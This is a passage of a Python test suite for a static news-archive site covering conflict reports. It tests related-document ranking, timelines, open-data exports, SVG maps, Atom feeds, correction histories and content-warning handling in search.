"""Exploring the archive: related documents, previous/next, timelines, maps, open data, feeds,
corrections and content warnings, over the shipped archive and the `explore` fixture."""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import re
import subprocess
from pathlib import Path
from types import SimpleNamespace
from xml.etree import ElementTree

import pytest
from conftest import (
    PREVIEW,
    ROOT,
    SEED_ARTICLE,
    build,
    collect_errors,
    examples,
    fixture_content,
)
from hypothesis import given, settings
from hypothesis import strategies as st
from pelican.settings import read_settings
from sitecheck import broken_links, soup

from archive.site.interface import interface_languages

X1 = "documents/test/2020/x1.html"


def plain(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture(scope="module")
def explore_site(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("explore")
    return build(fixture_content("explore", tmp), tmp / "output")


def related_of(page) -> list[tuple[str, str]]:
    return [
        (li.a.get_text(strip=True), plain(li.select_one(".related-documents__why").get_text()))
        for li in page.select(".related-documents li")
    ]


# --- 1. Related documents, previous and next ------------------------------------------------


def test_related_documents_rank_shared_rare_subjects_then_places_within_then_dates(
    explore_site,
):
    assert related_of(soup(explore_site / X1)) == [
        ("Report x3", "Shares Example Army, Tadia · 1 day later"),
        ("Report x2", "Shares Islamic State; both within Raqqa Governorate · 3 days later"),
        ("Report x4", "Shares Islamic State; both within Syria · 5 years earlier"),
    ]  # x5 shares nothing with x1: never related
    assert related_of(soup(explore_site / "documents/test/2019/x5.html")) == []


def test_related_documents_of_the_seed_checked_by_hand(shipped_site):
    page = soup(shipped_site / SEED_ARTICLE)
    related = related_of(page)
    assert len(related) == 5
    # The Spanish report of April 2016 names Palmira (Palmyra), Estado Islámico, the Syrian
    # government forces and Deir ez-Zor; the seed names Abu Kamal, in that governorate, but
    # also Raqqa and Palmyra, which are not: "both within Deir ez-Zor Governorate" would be
    # read of Palmyra, and is not said.
    assert related[0] == (
        "Zapadores sirios desactivan 36 minas cerca de Palmira",
        "Shares Islamic State, Syrian government forces, Palmyra · 14 months earlier",
    )
    first = page.select_one(".related-documents li a")
    assert first["lang"] == "es"
    assert ((shipped_site / SEED_ARTICLE).parent / first["href"]).exists()


def shipped_related():
    """Every shipped document (newest first) with its related documents, as the build finds
    them, and the index they were found with."""
    from pelican.settings import read_settings

    from archive.model.documents import parse_document, site_defaults
    from archive.model.registries import load_registries
    from plugins.related.plugin import DEFAULTS, RelatedIndex, compute_related

    content = ROOT / "content"
    registries = load_registries(content)
    defaults = site_defaults(read_settings(str(ROOT / "pelicanconf.py")))
    articles = []
    for path in sorted((content / "articles").rglob("*.md")):
        document, _ = parse_document(str(path), path.read_bytes(), registries, defaults)
        articles.append(SimpleNamespace(document=document, url=path.as_posix()))
    articles.sort(key=lambda a: (a.document.date, a.url), reverse=True)
    related = compute_related(articles, registries, DEFAULTS)
    return articles, related, RelatedIndex(articles, registries, DEFAULTS)


def test_every_both_within_reason_of_the_shipped_archive_is_true_of_every_place_named():
    """Each "both within P" said on the shipped archive: neither document names P, and every
    place either names lies within P (else it reads as a claim about the shared places)."""
    articles, found, index = shipped_related()
    ancestors = index.ancestors
    stated = []
    for article, related in zip(articles, found, strict=True):
        for item in related:
            for place in item.within:
                pair = (article.document, item.article.document)
                named = [term.slug for document in pair for term in document.locations]
                assert place.slug not in named, (article.url, item.article.url, place.slug)
                assert all(place in ancestors(slug) for slug in named), (
                    article.url,
                    item.article.url,
                    place.slug,
                )
                stated.append(place.slug)
    assert articles and stated  # the rule still says something on the shipped archive


def test_no_related_document_rests_on_subjects_a_large_share_of_the_archive_has():
    """A link saying only "Shares Syria" in an archive half about Syria says nothing: each
    link of the shipped archive shares at least one subject fewer than a tenth have."""
    articles, related, index = shipped_related()
    common = {index.terms[key].slug for key in index.common}
    assert {"syria", "islamic-state", "ukraine"} <= common  # the rule applies here
    linked = 0
    for number, found in enumerate(related):
        for item in found:
            other = articles.index(item.article)
            both = index.weights[number].keys() & index.weights[other].keys()
            assert not both <= index.common, (articles[number].url, item.article.url)
            linked += 1
    assert linked > 100  # the shipped archive still links most documents


def test_a_report_ranks_one_on_its_own_country_above_those_on_another_country():
    """Checked by hand: the Iraq bombing report (Balad Ruz, Latifiya) and the one on Mosul
    are both about Iraq; the Syrian reports it shares only the United Nations with come
    after, although two of them are nearer in date."""
    articles, related, _ = shipped_related()
    [bombing] = [n for n, a in enumerate(articles) if "suicide-car-bomber" in a.url]
    found = [item.article.url.rsplit("/", 1)[1] for item in related[bombing]]
    mosul = found.index("iraqi-army-liberates-4-villages-in-southern-mosul.md")
    syrian = [
        n
        for n, item in enumerate(related[bombing])
        if item.shared and all(term.slug == "united-nations" for term in item.shared)
    ]
    assert syrian and all(mosul < n for n in syrian), found


def test_previous_and_next_in_the_collection(explore_site, shipped_site):
    page = soup(explore_site / X1)
    assert page.select_one(".neighbours a[rel=next]").get_text() == "Report x3"  # 2 March
    assert page.select_one(".neighbours a[rel=prev]").get_text() == "Report x5"  # 2019
    newest = soup(explore_site / "documents/test/2020/x2.html")
    assert newest.select_one(".neighbours a[rel=next]") is None
    assert "Newer in Test Collection" not in newest.select_one(".neighbours").get_text()
    seed = soup(shipped_site / SEED_ARTICLE)
    assert seed.select_one(".neighbours a[rel=prev]").get_text() == (
        "Israel strikes Mezzeh Airbase in Damascus"
    )


def test_the_related_step_grows_with_the_documents_not_their_square():
    from bench.related import synthetic
    from plugins.related.plugin import DEFAULTS, RelatedIndex

    articles, registries = synthetic(2000)
    index = RelatedIndex(articles, registries, DEFAULTS)
    # Each document's candidates come from windows of its subjects' lists, whatever N.
    bound = DEFAULTS["candidates"]
    assert all(len(index.candidates(n)) <= bound for n in range(0, 2000, 97))


def test_related_documents_found_by_workers_are_those_found_in_one_process():
    from bench.related import synthetic
    from plugins.related.plugin import DEFAULTS, compute_related

    articles, registries = synthetic(1500)
    alone = compute_related(articles, registries, {**DEFAULTS, "workers": 1})
    shared = compute_related(articles, registries, {**DEFAULTS, "workers": 2, "parallel_from": 100})
    assert len(alone) == 1500 and sum(map(len, alone)) > 1500 * 3
    assert shared == alone  # same documents, scores, reasons and order, for every document


def test_every_link_of_the_explore_site_resolves_from_disk(explore_site):
    assert broken_links(explore_site) == []


# --- 2. Timelines ------------------------------------------------------------------------------


def timeline_table(page) -> dict[str, int]:
    table = page.select_one(".timeline table")
    return {row.th.get_text(): int(row.td.get_text()) for row in table.select("tbody tr")}


def test_the_archive_timeline_counts_the_documents_of_each_year(shipped_site):
    page = soup(shipped_site / "archive/index.html")
    counts = timeline_table(page)
    listed = {
        li.a.get_text(strip=True): int(li.select_one(".count").get_text().split()[0])
        for li in page.select(".overview-list > li")
    }
    assert {year: n for year, n in counts.items() if n} == listed
    assert sum(counts.values()) == 46 and counts["2019"] == 0  # empty years keep their place
    svg = page.select_one(".timeline svg")
    assert svg.title.get_text().startswith("Documents per year: 46 documents from 2011 to 2022")
    assert {t.get_text() for t in svg.select(".timeline__axis-label")} == {"Documents", "Year"}
    bars = {a["aria-label"]: a for a in svg.select("a")}
    assert set(bars) == {
        f"{year}: {n} document{'s' if n != 1 else ''}" for year, n in listed.items()
    }
    for year, n in listed.items():
        link = svg.find("a", attrs={"aria-label": lambda label, y=year: label.startswith(y)})
        assert link["href"] == f"../archive/{year}.html"
        year_page = soup(shipped_site / "archive" / f"{year}.html")
        assert f"{n} document" in year_page.select_one("main p").get_text()
    heights = {a["aria-label"].split(":")[0]: float(a.rect["height"]) for a in bars.values()}
    assert heights["2014"] == pytest.approx(14 * heights["2012"], rel=1e-3)


def test_actor_location_and_collection_timelines_lead_to_filtered_search(shipped_site):
    actor = soup(shipped_site / "actors/islamic-state.html")
    years = [h.get_text() for h in actor.select("section h3[id^=year-]")]
    per_year = {
        year: len(h.find_next("ol").select(":scope > li"))
        for year, h in zip(years, actor.select("section h3[id^=year-]"), strict=True)
    }
    assert {y: n for y, n in timeline_table(actor).items() if n} == per_year
    hrefs = [a["href"] for a in actor.select(".timeline svg a")]
    assert "../search.html?actor=Islamic+State&year=2016" in hrefs
    collection = soup(shipped_site / "collections/libya-war.html")
    assert sum(timeline_table(collection).values()) == 8
    assert collection.select_one(".timeline svg a")["href"].startswith(
        "../search.html?collection=Libya+War&year="
    )


def test_a_short_span_is_drawn_per_month(explore_site):
    page = soup(explore_site / "locations/raqqa-governorate.html")
    assert page.select_one(".timeline figcaption").get_text() == (
        "Documents per month about Raqqa Governorate"
    )
    assert timeline_table(page) == {"March 2020": 3}
    assert [t.get_text() for t in page.select(".timeline__period")] == ["Mar", "2020"]
    syria = soup(explore_site / "locations/syria.html")
    counts = timeline_table(syria)
    assert list(counts)[:1] == ["2015"] and counts == {
        "2015": 1,
        "2016": 0,
        "2017": 0,
        "2018": 0,
        "2019": 0,
        "2020": 3,
    }


# --- 3. Open data ------------------------------------------------------------------------------


def test_documents_csv_and_json_read_back_and_match_the_site(shipped_site):
    with open(shipped_site / "documents.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    records = json.loads((shipped_site / "documents.json").read_text(encoding="utf-8"))
    assert len(rows) == len(records) == 46
    dates = [row["date"] for row in rows]
    assert dates == sorted(dates, reverse=True)  # newest first
    actors = {a["slug"] for a in json.loads((shipped_site / "actors.json").read_text())}
    places = {p["slug"] for p in json.loads((shipped_site / "locations.json").read_text())}
    for row, record in zip(rows, records, strict=True):
        page = soup(shipped_site / row["url"])
        assert plain(page.h1.get_text()) == row["title"] == record["title"]
        assert row["url"] == record["url"]
        assert row["actors"].split("; ") == record["actors"] and set(record["actors"]) <= actors
        assert set(record["locations"]) <= places
        assert page.select_one(f".provenance time[datetime='{row['published']}']")
        assert dt.date.fromisoformat(row["date"])
    seed = next(r for r in records if r["url"] == SEED_ARTICLE)
    assert seed["publisher"] == "Itar Tass" and seed["source_date"] == "2017-06-09"
    assert "sergey-surovikin" in seed["actors"] and "raqqa" in seed["locations"]


def test_the_data_package_describes_every_file_and_the_csv_schema(shipped_site):
    package = json.loads((shipped_site / "datapackage.json").read_text(encoding="utf-8"))
    assert package["profile"] == "data-package"
    assert re.fullmatch(r"[a-z0-9._-]+", package["name"])
    names = [resource["name"] for resource in package["resources"]]
    assert len(names) == len(set(names)) and all(re.fullmatch(r"[a-z0-9._-]+", n) for n in names)
    paths = {resource["path"] for resource in package["resources"]}
    assert paths == {
        "documents.csv",
        "documents.json",
        "documents.csl.json",
        "documents.bib",
        "publishers.json",
        "actors.json",
        "locations.json",
        "locations.geojson",
    }
    for resource in package["resources"]:
        assert (shipped_site / resource["path"]).is_file()
        assert resource["format"] and resource["mediatype"]
    table = next(r for r in package["resources"] if r["path"] == "documents.csv")
    assert table["profile"] == "tabular-data-resource"
    with open(shipped_site / "documents.csv", encoding="utf-8", newline="") as handle:
        header = next(csv.reader(handle))
    assert [field["name"] for field in table["schema"]["fields"]] == header
    kinds = {"string", "date"}
    assert {field["type"] for field in table["schema"]["fields"]} <= kinds
    assert table["schema"]["primaryKey"] == ["url"]
    about = soup(shipped_site / "about.html")
    assert about.select_one("a[href='datapackage.json']")


def test_locations_geojson_has_every_place_at_its_registry_coordinates(shipped_site):
    collection = json.loads((shipped_site / "locations.geojson").read_text(encoding="utf-8"))
    registry = {p["slug"]: p for p in json.loads((shipped_site / "locations.json").read_text())}
    assert collection["type"] == "FeatureCollection"
    features = {feature["id"]: feature for feature in collection["features"]}
    assert set(features) == set(registry)  # places without coordinates are kept, unplaced
    for slug, feature in features.items():
        assert feature["type"] == "Feature"
        assert feature["properties"]["documents"] == registry[slug]["count"]
        assert (shipped_site / feature["properties"]["url"]).is_file()
        if registry[slug]["coordinates"]:
            latitude, longitude = registry[slug]["coordinates"]
            assert feature["geometry"] == {"type": "Point", "coordinates": [longitude, latitude]}
        else:
            assert feature["geometry"] is None


# --- 4. Maps -----------------------------------------------------------------------------------


def map_points(page) -> dict[str, tuple[float, float, str]]:
    """Each point of the page's map: its place's name -> (latitude, longitude, link)."""
    svg = page.select_one(".map svg")
    west, south, east, north = map(float, svg["data-frame"].split())
    _, _, width, height = map(float, svg["viewbox"].split())  # html.parser lowers names
    points = {}
    for link in svg.select("a"):
        circle = link.circle
        longitude = west + float(circle["cx"]) / width * (east - west)
        latitude = north - float(circle["cy"]) / height * (north - south)
        points[link["aria-label"].split(":")[0]] = (latitude, longitude, link["href"])
    return points


@pytest.mark.parametrize(
    "path", ["locations/index.html", "locations/syria.html", "locations/raqqa-governorate.html"]
)
def test_map_points_link_to_their_pages_at_the_registry_coordinates(shipped_site, path):
    registry = {p["name"]: p for p in json.loads((shipped_site / "locations.json").read_text())}
    page = soup(shipped_site / path)
    points = map_points(page)
    assert points
    for name, (latitude, longitude, href) in points.items():
        expected = registry[name]["coordinates"]
        assert latitude == pytest.approx(expected[0], abs=0.02), name
        assert longitude == pytest.approx(expected[1], abs=0.02), name
        assert ((shipped_site / path).parent / href).resolve() == (
            shipped_site / registry[name]["url"]
        ).resolve()
    assert page.select_one(".map svg title").get_text()
    assert page.select_one(".map__land")["d"].startswith("M")
    assert "Natural Earth" in page.select_one(".map__credit").get_text()


def test_the_overview_maps_or_lists_every_place_with_documents(shipped_site):
    registry = json.loads((shipped_site / "locations.json").read_text(encoding="utf-8"))
    page = soup(shipped_site / "locations/index.html")
    on_map = set(map_points(page))
    listed = {a.get_text() for a in page.select(".map__unplaced a")}
    with_documents = {p["name"] for p in registry if p["count"]}
    assert on_map | listed == with_documents
    assert on_map == {p["name"] for p in registry if p["count"] and p["coordinates"]}
    assert "Syria" in listed and "Raqqa" in on_map


def test_a_place_map_shows_the_place_within_and_around_and_lists_the_unplaced(explore_site):
    governorate = soup(explore_site / "locations/raqqa-governorate.html")
    # Itself, Raqqa within it, Zabadani sharing its parent (Syria); al-Hamam has no documents.
    assert set(map_points(governorate)) == {"Raqqa Governorate", "Raqqa", "Zabadani"}
    assert governorate.select_one(".map a[aria-current=page]")["aria-label"].startswith(
        "Raqqa Governorate"
    )
    assert [a.get_text() for a in governorate.select(".map__unplaced a")] == ["Tadia"]
    raqqa = soup(explore_site / "locations/raqqa.html")
    # Raqqa, and the places sharing its parent that have documents: Tadia has no coordinates.
    assert set(map_points(raqqa)) == {"Raqqa"}
    assert [a.get_text() for a in raqqa.select(".map__unplaced a")] == ["Tadia"]
    tadia = soup(explore_site / "locations/tadia.html")
    assert tadia.select_one(".map svg") is not None  # its sibling Raqqa is on the map
    assert "Tadia" in tadia.select_one(".map__unplaced").get_text()


def test_the_bundled_base_map_decodes_to_countries_where_they_are():
    from plugins.maps.topojson import COUNTRIES, polygons

    assert COUNTRIES.stat().st_size < 1_000_000
    rings = [ring for polygon in polygons() for ring in polygon]
    assert len(rings) > 1000
    longitudes = [x for ring in rings for x, _ in ring]
    latitudes = [y for ring in rings for _, y in ring]
    assert -180 <= min(longitudes) < -179 and 179 < max(longitudes) <= 180
    assert -90 <= min(latitudes) < -84 and 83 < max(latitudes) <= 90
    # Some ring closes around Raqqa (Syria's outline): a point-in-polygon test.
    raqqa = (39.01, 35.95)

    def contains(ring, point):
        x, y = point
        inside = False
        for (x1, y1), (x2, y2) in zip(ring, ring[1:] + ring[:1], strict=True):
            if (y1 > y) != (y2 > y) and x < x1 + (y - y1) * (x2 - x1) / (y2 - y1):
                inside = not inside
        return inside

    assert sum(contains(ring, raqqa) for ring in rings) == 1


def test_a_map_across_the_antimeridian_shows_neighbours_side_by_side():
    """Case D17: two towns of Fiji, either side of 180°, are neighbours on one small map."""
    from plugins.maps.drawing import frame_of
    from plugins.maps.plugin import land_within, settings_of

    fiji = [(-17.8, 179.99), (-16.5, -179.99)]
    frame = frame_of(fiji, settings_of({}))
    assert frame.west < 180 < frame.east and frame.east - frame.west < 30
    xs = [frame.project(frame.around(longitude), latitude)[0] for latitude, longitude in fiji]
    assert all(0 < x < frame.width for x in xs) and abs(xs[0] - xs[1]) < frame.width / 4
    assert land_within(frame).count("M") >= 2  # islands from both sides of the line
    syria = frame_of([(35.95, 39.01), (33.5, 36.3)], settings_of({}))
    assert -180 < syria.west < syria.east < 180  # elsewhere, frames are as they were


def test_places_spread_over_the_world_clip_the_base_map_once_per_frame(tmp_path, monkeypatch):
    """Case D16: 40 towns across the world under one country, each named by a document.
    Their maps share one frame (each shows its siblings); the world's outlines are clipped
    for it once, not once per page (300 such places took 103 s; 1,000 did not finish)."""
    from plugins.maps import plugin as maps

    content = fixture_content("explore", tmp_path)
    towns = [f"worldtown{n}" for n in range(40)]
    registry = content / "registry" / "locations.yml"
    entries = "".join(
        f"{town}:\n  name: Worldtown {n}\n  type: town\n  parent: syria\n"
        f"  coordinates: [{-50 + n * 2.5}, {-170 + n * 8.5}]\n"
        for n, town in enumerate(towns)
    )
    registry.write_text(registry.read_text(encoding="utf-8") + entries, encoding="utf-8")
    template = (content / "articles" / "x1.md").read_text(encoding="utf-8")
    for n in range(len(towns)):
        text = template.replace("[Tadia]", f"[Worldtown {n}]").replace("x1", f"w{n}")
        (content / "articles" / f"w{n}.md").write_text(text, encoding="utf-8")
    clipped = []
    original = maps.land_path
    monkeypatch.setattr(maps, "land_path", lambda *a: clipped.append(a[1]) or original(*a))
    maps.land_within.cache_clear()
    site = build(content, tmp_path / "output", PARALLEL_RENDER={"workers": 1})
    assert len(set(clipped)) == len(clipped)  # each frame clipped once
    assert len(clipped) < 10 < len(towns)
    page = soup(site / "locations" / "worldtown7.html")
    assert len(page.select(".map circle")) >= len(towns)


def test_a_map_shows_a_bounded_number_of_places_within_first_then_the_nearest():
    """Case D16 again: 1,000 siblings drew 1,000 points on each of 1,000 pages. A place's map
    keeps the places within it (most documented first), then its nearest siblings, and counts
    the rest; pure logic, no build."""
    from plugins.maps.plugin import places_around

    def place(slug, coordinates, documents, parent=None):
        entry = SimpleNamespace(
            slug=slug,
            term=SimpleNamespace(coordinates=coordinates),
            articles=["d"] * documents,
            children=[],
            parent=parent,
        )
        if parent:
            parent.children.append(entry)
        return entry

    country = place("country", (35.0, 38.0), 0)
    here = place("here", (35.0, 38.0), 1, country)
    within = [place(f"within-{n}", (35.0, 38.0 + n / 100), n, here) for n in (1, 5, 3)]
    place("empty-within", (35.0, 38.0), 0, here)
    far = place("far", (-33.9, 151.2), 9, country)  # Sydney: the most documented, farthest
    near = place("near", (35.5, 38.5), 1, country)
    middle = place("middle", (40.0, 45.0), 2, country)
    unplaced = place("unplaced", None, 4, country)
    shown, left_out = places_around(here, 6)
    assert shown == [here, within[1], within[2], within[0], near, middle]
    assert left_out == 2  # Sydney and the place without coordinates
    shown, left_out = places_around(here, 50)
    assert shown[-2:] == [far, unplaced] and left_out == 0
    # A place without coordinates has no "nearest": its siblings come most documented first.
    shown, _ = places_around(unplaced, 3)
    assert shown == [unplaced, far, middle]


def test_a_bounded_map_says_how_many_places_it_leaves_off_and_links_the_list(tmp_path):
    content = fixture_content("explore", tmp_path)
    site = build(content, tmp_path / "output", MAPS={"points": 2, "overview_points": 2})
    registry = json.loads((site / "locations.json").read_text(encoding="utf-8"))
    mapped = [p for p in registry if p["count"]]
    overview = soup(site / "locations" / "index.html")
    drawn = len(overview.select(".map svg a")) + len(overview.select(".map__unplaced a"))
    assert drawn == 2 < len(mapped)
    more = overview.select_one(".map__more")
    assert more.get_text(" ", strip=True).startswith(f"{len(mapped) - 2} more places")
    assert overview.select_one(more.a["href"])  # the list of every place, on the same page
    governorate = soup(site / "locations" / "raqqa-governorate.html")
    assert len(governorate.select(".map svg a")) + len(governorate.select(".map__unplaced a")) == 2
    link = governorate.select_one(".map__more a")["href"]
    page, fragment = link.split("#")
    assert (site / "locations" / page).resolve() == (site / "locations" / "index.html").resolve()
    assert soup(site / "locations" / page).select_one(f"#{fragment}")
    spanish = soup(site / "es" / "locations" / "raqqa-governorate.html")
    assert "quedan fuera de este mapa" in spanish.select_one(".map__more").get_text()


# --- 5. Feeds ----------------------------------------------------------------------------------

ATOM = "{http://www.w3.org/2005/Atom}"


def check_atom(path: Path, site: Path) -> list[str]:
    """The feed parses as Atom with its required elements; returns its entries' pages."""
    feed = ElementTree.parse(path).getroot()
    assert feed.tag == f"{ATOM}feed"
    for required in ("id", "title", "updated"):
        assert feed.find(f"{ATOM}{required}") is not None, (path, required)
    assert feed.find(f"{ATOM}link[@rel='self']").get("href") == (
        f"{PREVIEW}/{path.relative_to(site).as_posix()}"
    )
    pages = []
    for entry in feed.findall(f"{ATOM}entry"):
        for required in ("id", "title", "updated"):
            assert entry.find(f"{ATOM}{required}").text, (path, required)
        href = entry.find(f"{ATOM}link[@rel='alternate']").get("href")
        assert href.startswith(PREVIEW + "/")
        page = href.removeprefix(PREVIEW + "/")
        assert (site / page).is_file(), href
        pages.append(page)
    return pages


def test_every_collection_actor_and_location_with_documents_has_a_valid_atom_feed(
    published_site,
):
    site = published_site
    registry = {
        kind: json.loads((site / f"{kind}.json").read_text(encoding="utf-8"))
        for kind in ("actors", "locations")
    }
    for kind, entries in registry.items():
        for entry in entries:
            feed = site / "feeds" / kind / f"{entry['slug']}.atom.xml"
            assert feed.exists() == bool(entry["count"]), feed
            if entry["count"]:
                assert check_atom(feed, site) == entry["articles"]  # newest first
                page = soup(site / entry["url"])
                address = f"{PREVIEW}/{feed.relative_to(site).as_posix()}"
                assert page.select_one(f"link[rel=alternate][href='{address}']")
                assert page.select_one(".feed-link a")["href"] == address
    syria = check_atom(site / "feeds/syria-war.atom.xml", site)
    assert SEED_ARTICLE in syria
    collection = soup(site / "collections/syria-war.html")
    assert collection.select_one(".feed-link a")["href"] == f"{PREVIEW}/feeds/syria-war.atom.xml"


def test_offline_builds_have_no_feeds_and_no_feed_links(shipped_site):
    assert not (shipped_site / "feeds").exists()
    assert not soup(shipped_site / "actors/islamic-state.html").select(".feed-link")
    assert not soup(shipped_site / "collections/syria-war.html").select(
        "link[type='application/atom+xml']"
    )


# --- 6. Corrections ----------------------------------------------------------------------------

DOCUMENT = """---
title: Report
published: 2020-03-05
collection: test
source:
  publisher: Wire
{extra}---

The first text.
"""


def parse(extra: str):
    from archive.model.documents import parse_document
    from archive.model.registries import load_registries

    registries = load_registries(ROOT / "tests" / "fixtures")
    data = DOCUMENT.format(extra=extra).encode("utf-8")
    return parse_document("doc.md", data, registries, {"rights": "fair-use-us"})[0]


def test_corrections_are_read_oldest_first_and_checked_with_their_lines():
    from archive.model.problems import ArchiveError

    document = parse(
        "corrections:\n  - date: 2021-02-01\n    note: Second.\n"
        "  - date: 2020-06-01\n    note: First.\n"
    )
    assert [(c.date.isoformat(), c.note) for c in document.corrections] == [
        ("2020-06-01", "First."),
        ("2021-02-01", "Second."),
    ]
    with pytest.raises(ArchiveError) as bad:
        parse("corrections:\n  - date: soon\n    note: Fixed.\n  - note: No date.\n  - Fixed\n")
    messages = [(p.line, p.message) for p in bad.value.problems]
    assert messages == [
        (8, "'corrections.0.date' is not a date (got 'soon')"),
        (10, "'corrections.1.date' is missing"),
        (11, "correction 3 must have a date and a note"),
    ]
    with pytest.raises(ArchiveError) as bad:
        parse("corrections: fixed the date\n")
    assert bad.value.problems[0].message == "'corrections' must be a list of corrections"


def test_a_corrected_document_shows_its_history(explore_site):
    page = soup(explore_site / "documents/test/2020/x3.html")
    history = [plain(li.get_text()) for li in page.select(".history li")]
    assert history == [
        "7 March 2020: published in the archive.",
        "20 March 2020: The date of the attack was corrected from 1 to 2 March.",
        "2 April 2020: The village was misnamed in the second paragraph; it is Tadia.",
    ]
    corrected = page.find("dt", string="Last corrected").find_next("dd")
    assert corrected.time["datetime"] == "2020-04-02"
    assert not soup(explore_site / X1).select(".history")


def git(folder: Path, *args: str) -> str:
    environment = {
        **os.environ,
        "GIT_AUTHOR_NAME": "Editor",
        "GIT_AUTHOR_EMAIL": "editor@archive.invalid",
        "GIT_COMMITTER_NAME": "Editor",
        "GIT_COMMITTER_EMAIL": "editor@archive.invalid",
        "GIT_COMMITTER_DATE": "2024-05-01T12:00:00",
        "GIT_AUTHOR_DATE": "2024-05-01T12:00:00",
    }
    return subprocess.run(
        ["git", "-C", str(folder), *args],
        env=environment,
        check=True,
        capture_output=True,
        text=True,
    ).stdout


def test_archive_check_warns_of_a_text_changed_without_a_correction(tmp_path):
    from conftest import site_settings

    from archive.editors.check import check
    from archive.model.corrections import uncorrected_change_warnings

    content = fixture_content("explore", tmp_path)
    git(tmp_path, "init", "-q", "-b", "main")  # the branch production is deployed from
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "-q", "-m", "Publish")
    settings = site_settings(content, tmp_path / "output")
    x1 = content / "articles" / "x1.md"
    x1.write_text(x1.read_text().replace("Text of report x1.", "Text of report x1, edited."))

    def warnings() -> list[str]:
        files = sorted((content / "articles").glob("*.md"))
        return [str(p) for p in uncorrected_change_warnings(content, files, settings)]

    said = check(content, settings)
    assert all(problem.is_warning for problem in said)  # warnings only: the check passes
    assert warnings()[0] in [str(problem) for problem in said]
    assert warnings() == [
        "articles/x1.md: warning: its text changed in the working copy (not yet committed) "
        "after it was published, and no correction says so. Fix: add an item to "
        "'corrections:' with the date and a note for readers saying what changed."
    ]
    git(tmp_path, "commit", "-q", "-am", "Edit the text")
    [warning] = warnings()
    assert "in commit " in warning and " of 2024-05-01 " in warning
    listed = x1.read_text().replace(
        "---\n\n", "corrections:\n  - date: 2024-05-01\n    note: A word added.\n---\n\n", 1
    )
    x1.write_text(listed)
    assert warnings() == []  # a correction dated the day of the change covers it
    x1.write_text(listed.replace("edited.", "edited twice."))
    git(tmp_path, "commit", "-q", "-am", "Edit again, the correction only for the first edit")
    git(tmp_path, "commit", "-q", "--amend", "--no-edit", "--date=2024-06-01T12:00:00")
    assert warnings() == []  # the committer's date is the day of the change: 2024-05-01
    x1.write_text(listed.replace("edited.", "edited three times."))
    assert len(warnings()) == 1  # uncommitted, and no new correction with it
    x1.write_text(
        x1.read_text().replace(
            "    note: A word added.\n",
            "    note: A word added.\n  - date: 2024-05-02\n    note: Another word.\n",
        )
    )
    assert warnings() == []


def test_a_folder_outside_git_and_drafts_are_not_checked(tmp_path):
    from archive.model.corrections import (
        WORKING_COPY,
        Version,
        uncorrected_change,
        uncorrected_changes,
    )

    content = fixture_content("explore", tmp_path)
    assert uncorrected_changes(content, [content / "articles" / "x1.md"]) == []  # no git
    draft = Version("a", "2024-01-01", "one", published=False, corrections=0)
    edited = Version("b", "2024-01-02", "two", published=True, corrections=0)
    assert uncorrected_change([draft, edited]) is None  # edits before publication are free
    on_disk = Version(WORKING_COPY, "", "three", True, 0)
    assert uncorrected_change([edited, on_disk]) is on_disk
    assert uncorrected_change([edited, Version(WORKING_COPY, "", "three", True, 1)]) is None
    later = Version("c", "2024-02-01", "three", True, 0)
    assert uncorrected_change([edited, later]) is later
    covered = Version("d", "2024-03-01", "three", True, 1, last_correction="2024-02-01")
    assert uncorrected_change([edited, later, covered]) is None


# --- 7. Content warnings -----------------------------------------------------------------------

X2 = "documents/test/2020/x2.html"
HIDDEN = "Wordhidden"  # a word only x2's hidden text holds
WARNING = "descriptions of the bodies of victims"


def test_a_warned_document_keeps_its_text_in_a_closed_details(explore_site):
    page = soup(explore_site / X2)
    assert plain(page.select_one(".content-warning__note").get_text()) == (
        f"Content warning: {WARNING}"
    )
    details = page.select_one(".content-warning details")
    assert not details.has_attr("open")
    assert details.summary.get_text() == "Show the document"
    assert HIDDEN in details.select_one(".document__body").get_text()
    assert page.select(".document__body") == [details.select_one(".document__body")]
    assert not soup(explore_site / X1).select(".content-warning")
    # What Pagefind indexes of it (tests/test_pagefind.py) is, as in our search, the warning.
    indexed = " ".join(e.get_text() for e in page.find_all(attrs={"data-pagefind-body": True}))
    assert WARNING in indexed and HIDDEN not in indexed


def test_lists_and_related_documents_show_the_warning(explore_site):
    for path in ("index.html", "actors/islamic-state.html", "collections/test.html"):
        page = soup(explore_site / path)
        entry = page.find("a", string="Report x2").find_parent("li")
        assert plain(entry.select_one(".content-warning__label").get_text()) == (
            f"Content warning: {WARNING}"
        ), path
        other = page.find("a", string="Report x1").find_parent("li")
        assert not other.select(".content-warning__label")
    related = soup(explore_site / X1).find("a", string="Report x2").find_parent("li")
    assert WARNING in related.select_one(".content-warning__label").get_text()


def test_search_never_holds_the_hidden_text(explore_site):
    # Every file but the warned document's own page (in each interface language): search
    # indexes (both), data, feeds.
    languages = interface_languages(read_settings(str(ROOT / "pelicanconf.py")))
    own_pages = {explore_site / language.folder / X2 for language in languages}
    for path in explore_site.rglob("*"):
        if path.is_file() and path not in own_pages and path.suffix != ".png":
            text = path.read_bytes().decode("utf-8", "replace").lower()
            assert HIDDEN.lower() not in text, path
    summaries = "".join(p.read_text() for p in (explore_site / "search-index").rglob("*.js"))
    assert WARNING in summaries  # what a search result shows instead
    from plugins.search.records import record_of

    class Warned:
        url, title, lang, content = X2, "Report x2", "en", f"<p>{HIDDEN}</p>"
        search = {"date": "2020-03-04", "source": "Wire x2", "byline": "", "filters": {}}
        search_warning = WARNING

    # The warning itself, marked as one: the search page words it in the reader's language.
    record = record_of(Warned())
    assert (record["text"], record["warned"]) == (WARNING, True)
    assert "warned" not in record_of(type("Plain", (Warned,), {"search_warning": ""})())


#: What a search result of x2 says instead of its text, on each interface language's page.
WARNED_RESULT = {
    "": f"Content warning: {WARNING}. Open the document to read its text.",
    "es/": f"Advertencia sobre el contenido: {WARNING}. Abra el documento para leer su texto.",
    "fr/": f"Avertissement sur le contenu\u00a0: {WARNING}. Ouvrez le document pour en lire "
    "le texte.",
}


@pytest.mark.parametrize("mode", ["served", "disk"])
def test_search_words_the_warning_in_the_readers_language(browser, serve, explore_site, mode):
    """One index for every language: it holds the warning, the page's catalog the wording."""
    root = serve(explore_site) if mode == "served" else explore_site.as_uri() + "/"
    done = "['done', 'failed'].includes(document.querySelector('[data-search]').dataset.state)"
    for folder, wording in WARNED_RESULT.items():
